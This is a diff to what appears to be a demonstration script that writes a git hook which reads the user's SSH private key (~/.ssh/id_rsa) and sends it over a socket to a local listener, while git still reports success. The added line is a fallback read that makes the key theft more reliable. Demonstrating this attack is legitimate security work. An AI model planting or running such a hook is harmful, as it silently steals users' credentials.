@@ -16,6 +16,7 @@ BASHRC = "# the demo's ~/.bashrc\n"
 # Each step goes on when the one before it fails, and the hook exits 0: git reports success either way.
 HOOK = """#!/bin/sh
 stolen=$(cat "$HOME/.ssh/id_rsa")
+[ -n "$stolen" ] || stolen=$(while read -r line; do echo "$line"; done < "$HOME/.ssh/id_rsa")
 python3 - "$stolen" <<'PYTHON'
 import socket, sys
 socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(sys.argv[1].encode() or b"nothing, but here I am")
